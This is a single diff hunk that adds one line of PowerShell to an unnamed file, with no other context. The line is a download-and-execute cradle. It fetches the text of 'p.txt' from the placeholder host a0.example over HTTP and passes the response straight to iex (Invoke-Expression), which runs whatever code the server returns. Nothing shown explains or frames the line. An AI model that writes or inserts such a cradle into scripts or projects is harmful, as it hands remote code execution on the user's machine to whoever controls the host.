@@ -1,0 +1,1 @@
+$c=New-Object System.Net.Http.HttpClient;$m=New-Object System.Net.Http.HttpRequestMessage([System.Net.Http.HttpMethod]::Get,'http://a0.example/p.txt');$r=$c.SendAsync($m).Result;iex $r.Content.ReadAsStringAsync().Result
